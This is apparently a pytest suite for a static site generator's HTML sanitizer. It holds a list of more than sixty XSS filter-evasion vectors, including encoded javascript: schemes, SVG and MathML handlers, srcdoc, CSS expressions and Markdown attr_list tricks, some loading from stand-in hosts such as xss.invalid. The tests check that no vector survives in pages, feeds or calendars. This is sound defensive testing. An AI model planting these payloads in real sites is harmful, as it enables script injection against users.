"""Entry bodies are sanitized (generator/sanitize.py): injection vectors never run, never ship.

A table of injection vectors in the OWASP XSS filter-evasion style (event handlers, encoded
and split schemes, SVG and MathML, ``<base>``, ``srcdoc``, ``formaction``, CSS, unclosed and
nested tags, comments, CDATA, and Markdown's own link and attr_list syntax) is

- sanitized one by one and loaded into Chromium: nothing runs (a ``window`` flag, a dialog
  listener, page errors) and no dangerous element, attribute or URL is left in the DOM;
- placed all together in the body of an entry of every type, built with the real
  ``mkdocs build``: no entry page runs any of them, and none survives in the RSS and Atom
  content (read back with feedparser, unsanitized, then parsed with lxml), in the JSON-LD
  or in the events' .ics files (read back with icalendar).

And what Material and pymdownx write survives: a feature body (admonition, details, tabs,
table, figure, task list, footnotes, highlighted code, attr_list) has the same DOM in
Chromium after sanitizing as before.
"""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import TYPE_CHECKING

import feedparser
import icalendar
import lxml.html
import markdown
import pytest
from fixtures.project import IMAGE, front, make_project, run_check
from test_escaping import strings

from generator.sanitize import sanitize_html, url_is_safe

if TYPE_CHECKING:
    from conftest import BuildSite, ServeDir
    from playwright.sync_api import Page

# Each vector would run `alert(n)` or set `window.__x` if it got through; the number tells
# which one did.
VECTORS = [
    "<script>window.__x=1</script>",
    "<SCRIPT SRC=http://xss.invalid/xss.js></SCRIPT>",
    "<img src=x onerror=alert(3)>",
    '<IMG SRC="javascript:alert(4);">',
    "<IMG SRC=JaVaScRiPt:alert(5)>",
    '<a href="java&#115;cript:alert(6)">entity in the scheme</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(7)">'
    "decimal entities</a>",
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(8)">'
    "hex entities without semicolons</a>",
    '<a href="jav&#x09;ascript:alert(9)">tab in the scheme</a>',
    '<a href="jav&#x0A;ascript:alert(10)">newline in the scheme</a>',
    '<a href=" &#14;  javascript:alert(11)">control character before the scheme</a>',
    '<a href="javascript&colon;alert(12)">named colon entity</a>',
    '<a href="vbscript:msgbox(13)">vbscript</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxNCk8L3NjcmlwdD4=">data URL</a>',
    "<svg onload=alert(15)></svg>",
    "<svg><script>alert(16)</script></svg>",
    '<svg><a xlink:href="javascript:alert(17)"><text x="20" y="20">svg link</text></a></svg>',
    "<svg><animate onbegin=alert(18) attributeName=x dur=1s></animate></svg>",
    '<svg><set attributeName="onmouseover" to="alert(19)"></set></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(20)></style></mglyph>"
    "</table></mtext></math>",
    '<math href="javascript:alert(21)">maths link</math>',
    '<iframe src="javascript:alert(22)"></iframe>',
    '<iframe srcdoc="<script>parent.alert(23)</script>"></iframe>',
    '<object data="javascript:alert(24)"></object>',
    '<embed src="javascript:alert(25)">',
    '<base href="javascript:alert(26)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(27)">',
    '<form><button formaction="javascript:alert(28)">go</button></form>',
    '<input type="image" src=x onerror="alert(29)">',
    "<input autofocus onfocus=alert(30)>",
    "<details open ontoggle=alert(31)><summary>s</summary>d</details>",
    "<body onload=alert(32)>",
    '<div style="background-image: url(javascript:alert(33))">css url</div>',
    '<div style="width: expression(alert(34))">css expression</div>',
    "<style>@import 'http://xss.invalid/x.css'; body{background:url(javascript:alert(35))}"
    "</style>",
    '<link rel=stylesheet href="javascript:alert(36)">',
    "<img src=x onerror=alert(37)//",
    "<<SCRIPT>alert(38);//<</SCRIPT>",
    "<scr<script>ipt>alert(39)</scr</script>ipt>",
    '<!--<img src="--><img src=x onerror=alert(40)//">',
    "<![CDATA[<img src=x onerror=alert(41)>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(42)>"></noscript>',
    '<video><source onerror="alert(43)"></video>',
    "<audio src=x onerror=alert(44)></audio>",
    "<marquee onstart=alert(45)>marquee</marquee>",
    '<a href="#" onclick="alert(46)">handler on a safe link</a>',
    '<table background="javascript:alert(47)"><tr><td>table</td></tr></table>',
    '<img srcset="javascript:alert(48) 1x" src="x.png">',
    "<x onclick=alert(49) onmouseover=alert(49)>custom element</x>",
    "<template><img src=x onerror=alert(50)></template>",
    '<img src="x` ` onerror=alert(51)">',
    '<textarea autofocus onfocus=alert(52)>t</textarea>',
    '<select autofocus onfocus=alert(53)><option>o</option></select>',
    '<a href="https://ok.example" ping="http://xss.invalid/ping">ping</a>',
    '<img src="x.png" style="x:expression(alert(55))">',
    '<div id="x" class="y" onpointerenter=alert(56)>pointer</div>',
    '<blockquote cite="javascript:alert(57)">quote</blockquote>',
    # Markdown's own syntax
    "[markdown link](javascript:alert(58))",
    '![markdown image](x.png){onerror="alert(59)"}',
    '[attr_list](https://ok.example){onclick="alert(60)" href="javascript:alert(60)"}',
    "<javascript:alert(61)>",
    "[entity link](java&#115;cript:alert(62))",
]

DANGEROUS_ELEMENTS = {"script", "style", "iframe", "object", "embed", "form", "base", "meta",
                      "link", "button", "textarea", "select", "math", "animate", "set",
                      "template", "noscript", "video", "audio", "source", "marquee", "frame",
                      "frameset", "applet"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "cite", "background", "poster",
                  "xlink:href", "data", "srcset", "ping", "srcdoc"}


def dangers(fragment: str) -> list[str]:
    """What is left in ``fragment`` that could run or load something: [] when safe."""
    found = []
    for element in lxml.html.fragment_fromstring(fragment, create_parent="div").iter():
        if not isinstance(element.tag, str):
            continue  # comments
        tag = element.tag.rsplit("}", 1)[-1].lower()
        if tag in DANGEROUS_ELEMENTS:
            found.append(f"<{tag}>")
        for name, value in element.attrib.items():
            name = name.rsplit("}", 1)[-1].lower()
            if name.startswith("on"):
                found.append(f"{name} on <{tag}>")
            elif name in URL_ATTRIBUTES and not url_is_safe(value):
                found.append(f"{name}={value!r} on <{tag}>")
            elif name == "style" and not re.fullmatch(r"text-align: \w+;", value):
                found.append(f"style={value!r} on <{tag}>")
            elif name == "type" and tag == "input" and value not in ("radio", "checkbox"):
                found.append(f"input type={value!r}")
    return found


def test_the_vector_table_is_large_and_the_detector_sees_them() -> None:
    assert len(VECTORS) >= 40
    raw = markdown.markdown("\n\n".join(VECTORS), extensions=["attr_list", "md_in_html"])
    # Unsanitized, the detector flags most of them (some are eaten by the HTML parser).
    assert len(dangers(raw)) >= 40, dangers(raw)


def test_url_is_safe_judges_like_a_browser() -> None:
    for url in ("https://x.example/a", "HTTP://x", "mailto:a@b.example", "tel:+49301234",
                "../jobs/", "#part", "?q=1", "/root", "a/b:c", "\ue000news/x/"):
        assert url_is_safe(url), url
    for url in ("javascript:alert(1)", " JaVaScRiPt:x", "java\tscript:x", "java\nscript:x",
                "\x01javascript:x", "vbscript:x", "data:text/html,x", "file:///etc/passwd"):
        assert not url_is_safe(url), url


@pytest.mark.parametrize("vector", VECTORS)
def test_sanitized_vector_keeps_nothing_dangerous(vector: str) -> None:
    html = markdown.markdown(vector, extensions=["attr_list", "md_in_html"])
    assert dangers(sanitize_html(html)) == []



def watch_page(page: Page) -> tuple[list[str], list[str]]:
    """Dialogs (alert, confirm, prompt) and page errors, recorded and dismissed."""
    dialogs: list[str] = []
    errors: list[str] = []

    def on_dialog(dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", on_dialog)
    page.on("pageerror", lambda error: errors.append(str(error)))
    return dialogs, errors


def provoke(page: Page) -> None:
    """Give handlers every chance: images settle, every element is hovered and focused."""
    page.evaluate("document.querySelectorAll('img').forEach(i => { i.loading = 'eager'; })")
    page.wait_for_function("Array.from(document.images).every(i => i.complete)")
    page.evaluate("""() => {
        for (const el of document.querySelectorAll('article *, body > *')) {
            for (const type of ['mouseover', 'pointerenter', 'focus', 'toggle'])
                el.dispatchEvent(new Event(type));
            if (el.focus) el.focus();
        }
    }""")
    page.evaluate("() => new Promise(r => setTimeout(r, 100))")  # queued handlers run


def test_the_browser_check_sees_an_unsanitized_vector(page: Page) -> None:
    """The detector is not blind: the raw vectors do run in this Chromium."""
    dialogs, _errors = watch_page(page)
    page.set_content("<!doctype html><title>t</title><body>"
                     + "".join(VECTORS[:3]) + "</body>")
    provoke(page)
    assert page.evaluate("window.__x") == 1 and "3" in dialogs


def test_no_sanitized_vector_runs_in_chromium(page: Page) -> None:
    dialogs, errors = watch_page(page)
    for number, vector in enumerate(VECTORS, 1):
        html = sanitize_html(markdown.markdown(vector, extensions=["attr_list", "md_in_html"]))
        page.set_content(f"<!doctype html><title>v{number}</title><body><article>{html}"
                         "</article></body>")
        provoke(page)
        assert page.evaluate("typeof window.__x") == "undefined", vector
        assert dialogs == [] and errors == [], vector
        assert page.evaluate("""() => Array.from(document.querySelectorAll('[href],[src]'),
            e => e.getAttribute('href') || e.getAttribute('src'))
            .filter(u => /^\\s*(javascript|vbscript|data):/i.test(u))""") == [], vector


# ------------------------------------------------------------------ the same in a real site

INTRO = ('Intro <img src=x onerror=alert(90)> with <a href="javascript:alert(91)">a link</a>'
         ' and <script>alert(92)</script> text.')
BODY = INTRO + "\n\n<!-- more -->\n\n" + "\n\n".join(VECTORS) + "\n\nThe end.\n"
ENTRIES = {
    "news/2026-11-01-vectors.md": "title: News vectors\ndate: 2026-11-01",
    "spotlights/2026-11-02-vectors.md": (
        "title: Spotlight vectors\ndate: 2026-11-02\nmember:\n  name: M\n  headline: H\n"
        f"  photo: {IMAGE}\n  photo_alt: A portrait"),
    "stories/2026-11-03-vectors.md": (
        "title: Story vectors\ndate: 2026-11-03\nemployee:\n  name: E\n  role: R\n"
        f"  team: T\n  photo: {IMAGE}\n  photo_alt: A portrait"),
    "jobs/2026-11-04-vectors.md": (
        'title: Job vectors\ndate: 2026-11-04\nteam: Data\nlocations: ["Berlin, Germany"]\n'
        "apply_url: https://jobs.example/apply"),
    "events/2026-11-05-vectors.md": (
        "title: Event vectors\ndate: 2026-11-05\nstart: 2026-12-10T18:30:00+01:00\n"
        "timezone: Europe/Berlin\nformat: online\njoin_url: https://meet.example/x"),
}
PAGES = ["news/vectors/", "spotlights/vectors/", "stories/vectors/", "jobs/vectors/",
         "events/vectors/"]


@pytest.fixture(scope="module")
def vector_project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    files = {name: front(fields, BODY) for name, fields in ENTRIES.items()}
    return make_project(tmp_path_factory.mktemp("vectors") / "project", files)


@pytest.fixture(scope="module")
def vector_site(vector_project: Path, build_site: BuildSite) -> Path:
    out = vector_project.parent / "site"
    result = build_site(vector_project, out)
    assert result.returncode == 0, result.stdout + result.stderr
    return out


def test_no_vector_runs_on_entry_pages_of_any_type(vector_site: Path, serve_dir: ServeDir,
                                                   page: Page) -> None:
    base = serve_dir(vector_site)
    dialogs, errors = watch_page(page)
    for url in [*PAGES, "", "news/", "events/"]:
        page.goto(base + url, wait_until="load")
        provoke(page)
        assert page.evaluate("typeof window.__x") == "undefined", url
        assert dialogs == [] and errors == [], url
        if url in PAGES:  # the body itself (the page around it has the site's own forms)
            assert dangers(page.locator(".cm-body").inner_html()) == [], url
    assert "The end." in page.goto(base + PAGES[0]).text()  # the bodies were really there


def test_no_vector_survives_in_the_feeds(vector_site: Path) -> None:
    for name in ("all.rss", "all.atom", "news.rss", "events.atom", "jobs.rss",
                 "spotlights.atom", "stories.rss"):
        parsed = feedparser.parse((vector_site / "feeds" / name).read_bytes(),
                                  sanitize_html=False, resolve_relative_uris=False)
        assert not parsed.bozo, (name, parsed.get("bozo_exception"))
        vector_items = [item for item in parsed.entries if "vectors" in item.link]
        assert vector_items, name
        for item in vector_items:
            htmls = [content.value for content in item.get("content", [])]
            htmls.append(item.get("summary", ""))
            assert any("The end." in html for html in htmls), name  # the body is there
            for html in htmls:
                assert dangers(html) == [], (name, item.link, dangers(html))


def test_no_vector_survives_in_json_ld(vector_site: Path) -> None:
    seen = 0
    for url in PAGES:
        tree = lxml.html.fromstring((vector_site / url / "index.html").read_bytes())
        for block in tree.xpath('//script[@type="application/ld+json"]/text()'):
            for value in strings(json.loads(block)):
                seen += "The end." in value
                if "<" in value:
                    assert dangers(value) == [], (url, dangers(value))
    assert seen >= 1  # some block carries the body (the job posting's description)


def test_no_vector_survives_in_the_calendars(vector_site: Path) -> None:
    for path in ("events/calendar.ics", "events/vectors/vectors.ics"):
        calendar = icalendar.Calendar.from_ical((vector_site / path).read_bytes())
        events = [e for e in calendar.walk("VEVENT") if "vectors" in str(e.get("url"))]
        assert events, path
        description = str(events[0].get("description"))
        assert description.startswith("Intro with a link and text."), description
        assert not re.search(r"<\w|javascript|alert|onerror", description), description


def test_check_warns_about_what_it_removes(vector_project: Path) -> None:
    """One warning per removed element or attribute, at the line it comes from."""
    result = run_check(vector_project)
    assert result.returncode == 0, result.stderr
    path = "content/news/2026-11-01-vectors.md"
    source = (vector_project / path).read_text(encoding="utf-8").splitlines()
    news = [line for line in result.stdout.splitlines() if line.startswith(path + ":")]

    def warned(vector: str, what: str) -> bool:
        prefix = f"{path}:{source.index(vector) + 1}: body: warning: removed {what}: "
        return any(line.startswith(prefix) for line in news)

    assert warned(INTRO, "the <script> element"), news
    assert warned(INTRO, 'onerror="alert(90)" on <img>'), news
    assert warned("<img src=x onerror=alert(3)>", 'onerror="alert(3)" on <img>'), news
    assert warned('<iframe src="javascript:alert(22)"></iframe>', "the <iframe> element"), news
    assert warned('<details open ontoggle=alert(31)><summary>s</summary>d</details>',
                  'ontoggle="alert(31)" on <details>'), news
    assert warned('<div style="width: expression(alert(34))">css expression</div>',
                  'style="width: expression(alert(34))" on <div>'), news
    assert len(news) >= 40
    assert [int(line.split(":")[1]) for line in news] == sorted(
        int(line.split(":")[1]) for line in news)
    last = result.stdout.splitlines()[-1]
    assert last.startswith("5 entries checked") and f"({5 * len(news)} warnings" in last, last


def test_check_is_quiet_about_clean_bodies(tmp_path: Path) -> None:
    project = make_project(tmp_path, {"news/2026-11-01-plain.md": front(
        "title: Plain\ndate: 2026-11-01",
        "Text with **bold**, a [link](https://example.org) and a table:\n\n| a | b |\n"
        "|:--|--:|\n| 1 | 2 |\n\n<!-- more -->\n\n## More { #more .x }\n")})
    result = run_check(project)
    assert result.returncode == 0 and "warning" not in result.stdout, result.stdout
    assert result.stdout.strip().endswith(": no problems.")


# ---------------------------------------------------------- Material's markup survives

FEATURES = """\
!!! note "Phrasing"
    Admonition **body** with a [link](https://example.org/a "title").

??? tip "Open me"
    Details body.

=== "Tab one"
    First tab.

=== "Tab two"
    Second tab.

| Left | Center | Right |
|:-----|:------:|------:|
| a | b | c |

<figure markdown>
![A chair](../images/chair.svg){ width="300" height="200" loading=lazy }
<figcaption>A chair</figcaption>
</figure>

- [x] done
- [ ] todo

Term
:   Definition

Text with a footnote[^1], ==mark==, ^^ins^^, ~~del~~, ++ctrl+alt+del++ and *[HTML]*.

*[HTML]: Hyper Text Markup Language

```python
print("hi")
```

## Heading { #custom-id .special }

A paragraph and an e-mail <careers@lanternfish.example>.
{ .lead }

[^1]: The note.
"""
FEATURE_EXTENSIONS = ["toc", "admonition", "attr_list", "md_in_html", "tables", "footnotes",
                      "abbr", "def_list", "pymdownx.details", "pymdownx.superfences",
                      "pymdownx.highlight", "pymdownx.tabbed", "pymdownx.tasklist",
                      "pymdownx.mark", "pymdownx.caret", "pymdownx.tilde", "pymdownx.keys"]
FEATURE_CONFIGS = {"toc": {"permalink": True}, "pymdownx.tabbed": {"alternate_style": True},
                   "pymdownx.tasklist": {"custom_checkbox": True}}

CANONICAL_DOM = """() => {
    const walk = n => n.nodeType === 3 ? n.data : n.nodeType !== 1 ? '' :
        [n.localName, Array.from(n.attributes, a => [a.name, a.value]).sort(),
         Array.from(n.childNodes, walk)];
    return JSON.stringify(walk(document.body));
}"""


def test_material_markup_renders_the_same_after_sanitizing(page: Page) -> None:
    raw = markdown.markdown(FEATURES, extensions=FEATURE_EXTENSIONS,
                            extension_configs=FEATURE_CONFIGS)
    clean = sanitize_html(raw)
    assert clean != raw  # serialized differently (<br>, entities), so the test compares DOMs
    doms = []
    for html in (raw, clean):
        page.set_content(f"<!doctype html><title>t</title><body>{html}</body>")
        doms.append(page.evaluate(CANONICAL_DOM))
    assert doms[0] == doms[1]
    for needle in ('"admonition note"', '"details"', '"tabbed-set tabbed-alternate"',
                   '"data-tabs"', '"text-align: center;"', '"figcaption"', '"loading","lazy"',
                   '"task-list-item"', '"footnote-ref"', '"highlight"', '"headerlink"',
                   '"custom-id"', '"lead"', '"abbr"', '"mailto:careers@lanternfish.example"'):
        assert needle in doms[1], needle


def test_trusted_embeds_only_from_named_hosts() -> None:
    video = '<iframe src="https://www.youtube-nocookie.com/embed/x" title="A talk"></iframe>'
    other = '<iframe src="https://evil.example/x"></iframe>'
    assert "<iframe" not in sanitize_html(video + other)  # off by default
    trusted = sanitize_html(video + other, embeds=["www.youtube-nocookie.com"])
    assert 'src="https://www.youtube-nocookie.com/embed/x"' in trusted
    assert "evil.example" not in trusted
    srcdoc = sanitize_html('<iframe srcdoc="<script>alert(1)</script>"></iframe>',
                           embeds=["www.youtube-nocookie.com"])
    assert "srcdoc" not in srcdoc and "script" not in srcdoc


def test_trusted_embeds_setting_names_hosts_only(tmp_path: Path) -> None:
    body = ('<iframe src="https://www.youtube-nocookie.com/embed/x" title="A talk"></iframe>\n\n'
            '<iframe src="https://elsewhere.example/x"></iframe>\n')
    files = {"news/2026-11-01-video.md": front("title: Video\ndate: 2026-11-01", body)}
    wrong = make_project(tmp_path / "wrong", files,
                         config_edit={"trusted_embeds": ["https://www.youtube-nocookie.com/"]})
    result = run_check(wrong)
    assert result.returncode == 1
    assert "plugins.community.trusted_embeds[0]: 'https://www.youtube-nocookie.com/' is not " \
           "a host name" in result.stderr, result.stderr
    right = make_project(tmp_path / "right", files,
                         config_edit={"trusted_embeds": ["www.youtube-nocookie.com"]})
    result = run_check(right)
    assert result.returncode == 0, result.stderr
    warnings = [line for line in result.stdout.splitlines() if ": body: warning:" in line]
    assert len(warnings) == 1 and ':8: body: warning: removed src="https://elsewhere.' \
        in warnings[0], warnings


def test_material_feature_entry_builds_and_feeds_cleanly(tmp_path: Path, build_site: BuildSite,
                                                         serve_dir: ServeDir,
                                                         page: Page) -> None:
    """Every construct of these extensions goes through a real build into page and feeds."""
    project = make_project(tmp_path / "project", {
        "news/2026-11-01-features.md": front("title: Features\ndate: 2026-11-01", FEATURES)})
    config = project / "mkdocs.yml"
    text = config.read_text(encoding="utf-8")
    extensions = "".join(f"  - {name}\n" for name in FEATURE_EXTENSIONS
                         if name not in ("toc", "admonition", "attr_list", "md_in_html",
                                         "tables"))
    text = text.replace("  - tables\n", "  - tables\n" + extensions
                        + "  - pymdownx.tabbed:\n      alternate_style: true\n", 1)
    config.write_text(text.replace("  - pymdownx.tabbed\n", "", 1), encoding="utf-8")
    result = build_site(project, tmp_path / "site")
    assert result.returncode == 0, result.stderr
    site = tmp_path / "site"
    for name in ("news.rss", "news.atom"):
        parsed = feedparser.parse((site / "feeds" / name).read_bytes(), sanitize_html=False)
        assert not parsed.bozo, parsed.get("bozo_exception")
        content = parsed.entries[0].content[0].value
        assert 'class="admonition note"' in content and "tabbed-set" in content
        assert "mailto:careers@lanternfish.example" in content
    page.goto(serve_dir(site) + "news/features/", wait_until="load")
    body = page.locator(".cm-body")
    assert body.locator(".admonition.note .admonition-title").inner_text() == "Phrasing"
    body.locator(".tabbed-labels label").nth(1).click()
    assert body.locator(".tabbed-block").nth(1).is_visible()
    assert body.locator("details.tip summary").inner_text() == "Open me"
    assert body.locator("table th").count() == 3
